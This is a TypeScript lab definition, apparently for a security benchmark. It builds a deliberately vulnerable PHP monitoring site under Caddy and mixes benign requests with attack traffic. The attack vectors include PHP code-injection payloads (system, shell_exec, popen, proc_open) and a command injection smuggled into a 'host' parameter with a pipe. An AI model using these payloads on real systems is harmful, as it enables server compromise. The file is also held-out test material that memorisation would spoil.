import { argvB } from '../../hands/argv_b';
import { clientB } from '../../hands/client_b';
import { crewB } from '../../hands/crew_b';
import type { Lab } from '../../lab';
import { mix } from '../../mix';
import { toAttacks } from '../../to_attacks';
import type { Vector } from '../../to_attacks';
import { admin, page } from '../../work';

const SITE = 'http://127.0.0.1:8088';
const view = (action: string, host?: string): ReturnType<typeof page> =>
  page(action, `${SITE}/?action=${action}${host === undefined ? '' : `&host=${host}`}`);

/** PHP has no need to escape in single quotes but of these two. */
const php = (text: string): string => `'${text.replace(/[\\']/g, '\\$&')}'`;
const evaluated = (name: string, code: (shell: string) => string): Vector => ({
  how: `php:${name}`,
  toCurl: (shell) => ['--data-urlencode', `data=${code(php(shell))}`, `${SITE}/?action=import`],
});
const attacks = toAttacks(
  [clientB, crewB, argvB],
  [
    evaluated('system', (shell) => `system(${shell})`),
    {
      how: 'php:passthru',
      toCurl: (shell) => [
        ...['--get', '--data-urlencode', 'action=trace'],
        ...['--data-urlencode', `host=192.0.2.80|${shell}`],
        `${SITE}/`,
      ],
    },
    evaluated('shell_exec', (shell) => `print shell_exec(${shell})`),
    evaluated('popen', (shell) => `print stream_get_contents(popen(${shell}, 'r'))`),
    {
      how: 'php:proc_open_argv',
      toCurlOfArgv: (argv) => [
        '--data-urlencode',
        `data=proc_close(proc_open([${argv.map(php).join(', ')}], [], $pipes))`,
        `${SITE}/?action=import`,
      ],
    },
  ],
  {
    root: '/usr/share/monitor',
    app: '/var/lib/monitor',
    config: '/etc/monitor/database.php',
    uploads: '/var/lib/monitor/import',
  }
);

const benign = [
  ...[view('graph'), view('update'), view('snmp'), view('walk'), view('alive', '192.0.2.80')],
  ...[view('disk'), view('load'), view('procs'), view('http'), view('ping'), view('smtp')],
  ...[view('dns'), view('poller'), view('lookup', 'company.example'), view('uptime')],
  ...[view('users'), view('version'), view('hostname'), view('service')],
  ...[view('trace', '192.0.2.80'), view('home'), view('graph'), view('update')],
  ...[view('alive', '10.20.0.5'), view('poller'), view('trace', '10.20.0.5'), view('disk')],
  admin('caddy-validate', 'caddy validate --config /etc/caddy/monitor.json'),
  admin('poll-by-hand', 'runuser -u www-data -- php /usr/share/monitor/poller.php'),
  admin('graph-backup', 'rrdtool dump /var/lib/monitor/load.rrd | gzip > /var/backups/load.xml.gz'),
];

export const caddyMonitor: Lab = {
  name: 'caddy_monitor',
  split: 'heldout',
  hostName: 'monitor',
  setUp: `
    mkdir -p /var/lib/monitor/import /etc/monitor /etc/caddy /var/lib/caddy
    echo "<?php \\$password = 'laubbaum';" > /etc/monitor/database.php
    rrdtool create /var/lib/monitor/load.rrd --step 60 DS:a:GAUGE:120:0:100 RRA:AVERAGE:0.5:1:60
    convert -size 60x60 xc:teal /var/lib/monitor/import/map.jpg
    chown -R www-data:www-data /var/lib/monitor /var/lib/caddy
    cat > /etc/php-monitor.conf <<'CONF'
[global]
error_log = /var/log/php-fpm.log
[monitor]
user = www-data
group = www-data
listen = /run/php-monitor.sock
listen.mode = 0666
pm = static
pm.max_children = 2
CONF
    cat > /etc/caddy/Caddyfile <<'CONF'
{
  admin off
  auto_https off
}
http://127.0.0.1:8088 {
  root * /usr/share/monitor
  php_fastcgi unix//run/php-monitor.sock
}
CONF
    cd /etc/caddy && HOME=/root caddy adapt --config Caddyfile > monitor.json`,
  start: [
    'php-fpm8.2 --fpm-config /etc/php-monitor.conf',
    'setpriv --reuid caddy --regid caddy --init-groups env HOME=/var/lib/caddy caddy run --config /etc/caddy/monitor.json >/dev/null 2>&1',
  ],
  readyUrl: `${SITE}/`,
  jobs: mix(benign, attacks),
};
